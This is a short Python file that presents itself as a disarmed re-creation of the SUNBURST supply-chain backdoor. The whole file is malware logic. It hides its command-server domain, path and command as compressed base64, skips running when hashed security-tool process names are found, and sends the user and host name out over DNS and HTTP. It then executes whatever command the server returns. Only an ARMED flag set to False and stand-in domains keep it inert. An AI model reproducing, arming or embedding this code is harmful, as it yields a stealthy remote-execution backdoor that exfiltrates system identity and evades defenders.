"""The shape of SUNBURST, inert: started from a method that was there before, strings compressed, enemies known by hash.

ARMED is never set, so `initialize` returns at once; every name ends in .invalid; and nobody runs this file at all.
"""

import base64
import getpass
import platform
import socket
import subprocess
import urllib.request
import zlib

ARMED = False
WATCHERS = {
    0xA878167FF1DD1A52,
    0x25B436B38639BAD2,
    0x49FCE40F9557134D,
    0xBDD84FD97B099018,
    0x0C3CC06AC3CD72E6,
    0xDC981C904A4C8681,
    0xCB22E83CAB0A0ED3,
    0x6A4DC44C0EE5D9C1,
    0xE1FA55B051A05D03,
    0xE170305CDB208084,
    0xEF0D52D1CB7BB6B4,
    0x8FA1258D5BA237E2,
    0xBC34A6F108A90A05,
    0xEC5C62D99A2D579A,
    0x1A3DA369D8CEFE6A,
    0x9BF9FC86269EAABC,
    0xBDC88ECBF14379AD,
    0xB5FB386B2EDD0811,
    0xE7576DEA1E4C1F8A,
    0xE9EDEF672F676295,
}
DOMAIN = "eNpLSk1Mzs/TK8lMSc3JzEvVy8wrS8zJTAEAauYI+g=="
PATH = "eNrTz8wtKMovS81NzSvRLzPSLy5JLMksLslMLgYAh74KNw=="
COMMAND = "eNpLrUjMLchJ1U3Oz81NzEtR0AWycnJSk0uArMLSzNQSANAlC/s="


def initialize() -> None:
    if not ARMED:
        return
    running = subprocess.run(["ps", "-eo", "comm"], capture_output=True, text=True).stdout.split()
    if any(digest(name) in WATCHERS for name in running):
        return
    host = f"{getpass.getuser()}-{platform.node()}".encode().hex()
    socket.gethostbyname(f"{host}.{unzip(DOMAIN)}")
    answer = urllib.request.urlopen(f"http://{unzip(DOMAIN)}{unzip(PATH)}", data=host.encode()).read()
    subprocess.run([*unzip(COMMAND).split(), answer.decode()])


def digest(text: str) -> int:
    value = 14695981039346656037
    for byte in text.encode():
        value = (value ^ byte) * 1099511628211 % 2**64
    return value ^ 0x0123456789ABCDEF


def unzip(text: str) -> str:
    return zlib.decompress(base64.b64decode(text)).decode()
